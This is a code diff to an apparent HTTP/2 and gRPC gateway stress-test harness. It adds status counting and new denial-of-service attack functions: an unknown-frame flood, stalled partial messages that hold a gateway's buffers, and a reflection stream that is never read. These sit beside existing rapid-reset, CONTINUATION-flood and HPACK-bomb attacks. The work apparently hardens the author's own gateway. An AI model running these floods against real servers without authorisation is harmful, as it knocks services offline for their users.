@@ -114,6 +114,9 @@ class Conn:
         self.next_stream = 1
         # Every frame received, when set (to read answers); else only GOAWAYs and resets count.
         self.frames: list[tuple[int, int, int, bytes]] | None = None
+        # When set, every HEADERS block is decoded and its grpc-status counted in `statuses`.
+        self.decoder: hpack.Decoder | None = None
+        self.statuses: dict[str, int] = {}
         if handshake:
             self.send(PREFACE + settings())
 
@@ -168,6 +171,10 @@ class Conn:
             del self.inbox[:9 + length]
             if self.frames is not None:
                 self.frames.append((kind, flags, sid, payload))
+            if self.decoder is not None and kind == HEADERS:
+                for name, value in self.decoder.decode(payload, raw=True):
+                    if name == b"grpc-status":
+                        self.statuses[value.decode()] = self.statuses.get(value.decode(), 0) + 1
             if kind == GOAWAY and length >= 8:
                 self.goaway = int.from_bytes(payload[4:8], "big")
                 self.goaway_debug = payload[8:200]
@@ -208,6 +215,9 @@ class Tally:
             self.fields["resets"][name] = self.fields["resets"].get(name, 0) + count
         if conn.closed:
             self.fields["closed_by_gateway"] += 1
+        for status, count in conn.statuses.items():
+            self.fields.setdefault("statuses", {})[status] = self.fields.setdefault("statuses", {}).get(status, 0) + count
+            self.add("answered", count)
         conn.close()
 
     def __setitem__(self, key, value):
@@ -274,7 +284,8 @@ def continuation_flood(address: str, seconds: float, args: dict) -> dict:
 def hpack_bomb(address: str, seconds: float, args: dict) -> dict:
     """A 4,000-byte value inserted into the HPACK dynamic table once per connection, then
     header blocks referencing it 4,000 times each (16 MB of header list from 4 KB of frame),
-    and header blocks of 1,000 distinct fields (a huge header list)."""
+    and header blocks of 1,000 distinct fields (a huge header list). Counts the grpc-status of
+    the answers (`statuses`)."""
     tally = Tally()
     base = request_block(address)
     insert = b"\x40" + hpack_int(6, 7) + b"x-bomb" + hpack_int(4000, 7) + b"b" * 4000  # incremental indexing: index 62
@@ -283,6 +294,8 @@ def hpack_bomb(address: str, seconds: float, args: dict) -> dict:
 
     def setup(conn: Conn) -> None:
         sid = conn.new_stream()
+        conn.decoder = hpack.Decoder()
+        conn.decoder.max_allowed_table_size = 65536
         conn.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, base + insert))
         conn.bomb = 0
 
@@ -433,9 +446,12 @@ def lying_length_prefixes(address: str, seconds: float, args: dict) -> dict:
 
 def _wait_status(conn: Conn, sid: int, timeout: float) -> str:
     """The grpc-status (as text) the gateway answers on `sid`, 'reset CODE', or 'hang'. Header
-    blocks are decoded with hpack (the gateway's blocks use its dynamic table)."""
-    decoder = hpack.Decoder()
-    decoder.max_allowed_table_size = 65536
+    blocks are decoded with hpack (the gateway's blocks use its dynamic table, so one decoder
+    serves every call on the connection)."""
+    decoder = getattr(conn, "status_decoder", None)
+    if decoder is None:
+        decoder = conn.status_decoder = hpack.Decoder()
+        decoder.max_allowed_table_size = 65536
     conn.frames = []
     deadline = time.monotonic() + timeout
     while time.monotonic() < deadline:
@@ -506,16 +522,144 @@ def idle_connections(address: str, seconds: float, args: dict) -> dict:
 
 
 def unknown_frame_flood(address: str, seconds: float, args: dict) -> dict:
-    """Frames of an unknown type (0xfa, empty), which HTTP/2 says to ignore: nghttp2 skips them
-    without a callback, so no budget sees them; each costs a frame header's parsing."""
+    """Frames of unknown types, which HTTP/2 says to ignore: type 0xfa empty on the
+    connection, and type 0x20 with a 64-byte payload on stream 1, alternately. Each moves
+    nothing, so each takes a token of the control-frame budget."""
     tally = Tally()
-    flood(address, seconds, tally, lambda c: None, lambda c: frame(0xFA, 0, 0), batch=500)
+    units = [frame(0xFA, 0, 0), frame(0x20, 0, 1, b"u" * 64)]
+
+    def unit(conn: Conn) -> bytes:
+        conn.sent_unknown = getattr(conn, "sent_unknown", 0) + 1
+        return units[conn.sent_unknown % 2]
+
+    flood(address, seconds, tally, lambda c: None, unit, batch=500)
+    return tally.fields
+
+
+def stalled_first_messages(address: str, seconds: float, args: dict) -> dict:
+    """`connections` connections each open `calls` Predict calls routed by header to `model`
+    (so the gateway knows the model at once), send the first `sent` bytes of a first message
+    that declares `declared` bytes (1 MiB), and then nothing; held for `seconds` while reading,
+    so the gateway's answers arrive. Counts the grpc-status of each answer (`statuses`) and
+    the seconds until the first and last (`first_answer_s`, `last_answer_s`)."""
+    count, calls = args.get("connections", 5), args.get("calls", 10)
+    sent, declared, model = args.get("sent", 200 << 10), args.get("declared", 1 << 20), args.get("model", "iris")
+    tally = Tally(calls=0, statuses={})
+    block = request_block(address, model=model, extra=[("grpc-timeout", "120S")])
+    prefix = struct.pack(">BI", 0, declared) + b"\x0a" + bytes([len(model)]) + model.encode() + b"\x12\x011"
+    partial = (prefix + b"\x00" * sent)[:sent]
+    conns = []
+    started = time.monotonic()
+    for _ in range(count):
+        conn = Conn(address)
+        tally.add("connections")
+        conn.read(1.0)
+        conn.send(frame(SETTINGS, ACK, 0))  # the gateway's 1 MiB stream window applies from here
+        conn.decoder = hpack.Decoder()
+        conn.decoder.max_allowed_table_size = 65536
+        for _ in range(calls):
+            sid = conn.new_stream()
+            out = frame(HEADERS, END_HEADERS, sid, block)
+            for i in range(0, len(partial), 16384):
+                out += frame(DATA, 0, sid, partial[i:i + 16384])
+            conn.send(out)
+            tally.add("calls")
+        conns.append(conn)
+    first = last = None
+    answered = 0
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        for conn in conns:
+            conn.read(0.0)
+        now_answered = sum(sum(c.statuses.values()) for c in conns)
+        if now_answered > answered:
+            last = time.monotonic() - started
+            first = first if first is not None else last
+            answered = now_answered
+        time.sleep(0.02)
+    tally["first_answer_s"] = None if first is None else round(first, 2)
+    tally["last_answer_s"] = None if last is None else round(last, 2)
+    for conn in conns:
+        tally.conn_done(conn)
+    return tally.fields
+
+
+REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
+
+
+def reflection_never_read(address: str, seconds: float, args: dict) -> dict:
+    """One reflection stream carrying `requests` requests (file_containing_symbol
+    byoc.v1.Admin: a descriptor of some KiB each; or list_services) from a client that
+    advertises a 64-byte stream window and a 4 KiB receive buffer and reads nothing for
+    `seconds`. Then it opens its windows and reads for up to 15 s, counting the responses
+    (`answered`): the gateway must have paused handling, not dropped the requests."""
+    count, kind = args.get("requests", 20000), args.get("kind", "symbol")
+    tally = Tally(requests=count, answered=0)
+    symbol = b"byoc.v1.Admin"
+    request = b"\x22" + bytes([len(symbol)]) + symbol if kind == "symbol" else b"\x3a\x00"
+    body = grpc_message(request) * count
+    conn = Conn(address, rcvbuf=4096, handshake=False)
+    tally.add("connections")
+    conn.send(PREFACE + settings((0x4, 64)))  # SETTINGS_INITIAL_WINDOW_SIZE 64
+    # The gateway's stream window (1 MiB) applies once its SETTINGS are acknowledged.
+    conn.read(1.0)
+    conn.send(frame(SETTINGS, ACK, 0))
+    sid = conn.new_stream()
+    conn.send(frame(HEADERS, END_HEADERS, sid, request_block(address, path=REFLECTION, model=None)))
+    for i in range(0, len(body), 16384):
+        conn.send(frame(DATA, 0, sid, body[i:i + 16384]))
+        tally.add("frames")
+    time.sleep(seconds)
+    # Now a client that reads: windows open (stream windows through SETTINGS), responses counted.
+    conn.send(settings((0x4, 0x7FFFFFFF)) + window_update(0, 0x7FFFFFFF - 65535))
+    buffer, offset, pending = bytearray(), 0, bytearray()
+    deadline = time.monotonic() + 15.0
+    while tally.fields["answered"] < count and time.monotonic() < deadline and not conn.closed:
+        poller = select.poll()
+        poller.register(conn.sock, select.POLLIN)
+        if not poller.poll(200):
+            continue
+        try:
+            chunk = conn.sock.recv(1 << 20)
+        except OSError:
+            chunk = b""
+        if not chunk:
+            conn.closed = True
+            break
+        buffer += chunk
+        while len(buffer) - offset >= 9:
+            length = int.from_bytes(buffer[offset:offset + 3], "big")
+            if len(buffer) - offset < 9 + length:
+                break
+            kind_byte, fsid = buffer[offset + 3], int.from_bytes(buffer[offset + 5:offset + 9], "big") & 0x7FFFFFFF
+            payload = buffer[offset + 9:offset + 9 + length]
+            offset += 9 + length
+            if kind_byte == DATA and fsid == sid:
+                pending += payload
+                # Count whole gRPC messages (5-byte prefix + body) and drop them.
+                at = 0
+                while len(pending) - at >= 5:
+                    size = int.from_bytes(pending[at + 1:at + 5], "big")
+                    if len(pending) - at < 5 + size:
+                        break
+                    at += 5 + size
+                    tally.add("answered")
+                del pending[:at]
+            elif kind_byte == RST_STREAM and length == 4:
+                name = ERROR_NAMES.get(int.from_bytes(payload, "big"))
+                tally.fields["resets"][name] = tally.fields["resets"].get(name, 0) + 1
+            elif kind_byte == GOAWAY and length >= 8:
+                conn.goaway = int.from_bytes(payload[4:8], "big")
+        del buffer[:offset]
+        offset = 0
+    tally.conn_done(conn)
     return tally.fields
 
 
 ATTACKS = {f.__name__: f for f in [rapid_reset, continuation_flood, hpack_bomb, settings_flood, ping_flood,
                                    empty_data_flood, window_update_flood, window_overflow,
-                                   garbage_after_preface, lying_length_prefixes, idle_streams, idle_connections, unknown_frame_flood]}
+                                   garbage_after_preface, lying_length_prefixes, idle_streams, idle_connections, unknown_frame_flood,
+                                   reflection_never_read, stalled_first_messages]}
 
 
 if __name__ == "__main__":
